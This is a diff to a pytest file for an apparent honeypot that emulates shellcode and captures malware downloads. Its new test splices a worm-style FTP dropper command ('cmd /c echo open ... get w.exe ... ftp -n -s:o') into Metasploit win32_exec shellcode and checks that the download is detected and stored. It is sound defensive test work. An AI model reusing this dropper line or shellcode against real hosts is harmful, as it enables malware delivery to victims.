@@ -17,8 +17,11 @@ import pytest
 from conftest import CORPORA, GENERIC_PORT, SUNDEW, connect, needs_corpus, wait_for
 import pcapcarve
 from test_analyser_limits import BIND_SHELL, NO_ACTION
+from test_download import FtpServer, sample
 
 HONEYNET = CORPORA / "pcaps" / "attack" / "honeynet-fc2010-1_attack-trace.pcap"
+WINEXEC = CORPORA / "shellcode" / \
+    "libemu_08_win32-exec-exitfunc-seh-cmd-cmd-c-ftp-exe-s-foo-scripted-seq.bin"
 ATTACKER, VICTIM = "98.114.205.102", "192.150.11.111"
 
 
@@ -35,33 +38,6 @@ def listening_tcp_ports():
     return ports
 
 
-class FtpServer:
-    """pyftpdlib on 127.0.0.1:port, one user, active mode allowed."""
-
-    def __init__(self, root, port, user="1", password="1"):
-        from pyftpdlib.authorizers import DummyAuthorizer
-        from pyftpdlib.handlers import FTPHandler
-        from pyftpdlib.servers import FTPServer
-
-        auth = DummyAuthorizer()
-        auth.add_user(user, password, str(root), perm="elr")
-        handler = type("Handler", (FTPHandler,), {"authorizer": auth,
-                                                   "permit_privileged_ports": True})
-        self.retrieved = []
-        outer = self
-
-        def on_file_sent(self, path):
-            outer.retrieved.append(os.path.basename(path))
-        handler.on_file_sent = on_file_sent
-        self.server = FTPServer(("127.0.0.1", port), handler)
-        self.thread = threading.Thread(target=self.server.serve_forever,
-                                       kwargs={"timeout": 0.2}, daemon=True)
-        self.thread.start()
-
-    def close(self):
-        self.server.close_all()
-
-
 @needs_corpus(HONEYNET)
 def test_honeynet_attack_end_to_end(sundew, tmp_path):
     # The file the attacker's FTP server sent, carved from the capture's
@@ -72,7 +48,7 @@ def test_honeynet_attack_end_to_end(sundew, tmp_path):
     root = tmp_path / "ftp"
     root.mkdir()
     (root / "ssms.exe").write_bytes(ssms)
-    ftp = FtpServer(root, 8884)
+    ftp = FtpServer(root, 8884, "1", "1", "active")
     try:
         # The replay comes from 127.0.0.1, so "open 0.0.0.0 8884" in the
         # attacker's script means 127.0.0.1:8884; the rule lets it pass.
@@ -87,7 +63,7 @@ def test_honeynet_attack_end_to_end(sundew, tmp_path):
         d.stop()
     finally:
         ftp.close()
-    assert ftp.retrieved == ["ssms.exe"]
+    assert ftp.sent == ["ssms.exe"]
     assert [e["sha256"] for e in stored] == [sha]
     assert (d.data / "binaries" / sha).read_bytes() == ssms
     # One session id tells the story: the exploit's, on 445.
@@ -182,3 +158,43 @@ def test_bind_shell_listens_while_the_exploit_is_open(sundew):
     assert len(d.events("sundew.shell.open", session=session,
                         state="listening")) == 1
     assert len(d.events("sundew.shellcode.detected", session=session)) == 1
+
+
+@needs_corpus(WINEXEC)
+def test_ftp_script_in_shellcode(sundew, tmp_path):
+    # Metasploit's win32_exec from libemu's tests runs the command at its
+    # end with WinExec: here a worm's script, written with echo and run
+    # with ftp -s:, as the command.  The analyser reads it from the
+    # emulated WinExec; 0.0.0.0 is the attacker's address.
+    code = WINEXEC.read_bytes()
+    cmd = (b"cmd /c echo open 0.0.0.0 2121> o&echo user up load>> o&"
+           b"echo binary>> o&echo get w.exe>> o&echo bye>> o&ftp -n -s:o")
+    payload = code[:code.index(b"cmd -c ftp.exe")] + cmd + b"\0"
+    body = sample(30000, 8)
+    root = tmp_path / "ftp"
+    root.mkdir()
+    (root / "w.exe").write_bytes(body)
+    ftp = FtpServer(root, 2121, "up", "load", "active")
+    try:
+        d = sundew(["download.connect_to=127.0.0.41:2121:127.0.0.1:2121"])
+        exp = connect(GENERIC_PORT, src="127.0.0.41")
+        exp.sendall(payload)
+        session = d.wait_events("sundew.connection.open",
+                                src_ip="127.0.0.41")[0]["session"]
+        stored = d.wait_events("sundew.file.stored", session=session,
+                               kind="binary", timeout=30)
+        exp.close()
+        d.stop()
+    finally:
+        ftp.close()
+    sha = hashlib.sha256(body).hexdigest()
+    assert [e["sha256"] for e in stored] == [sha]
+    assert (d.data / "binaries" / sha).read_bytes() == body
+    assert ftp.sent == ["w.exe"]
+    det = d.events("sundew.shellcode.detected", session=session)
+    assert len(det) == 1
+    url = "ftp://up:load@127.0.0.41:2121/w.exe"
+    assert {"action": "download", "url": url, "evidence": "emulated"} in \
+        det[0]["actions"]
+    assert [e["url"] for e in
+            d.events("sundew.download.offer", session=session)] == [url]
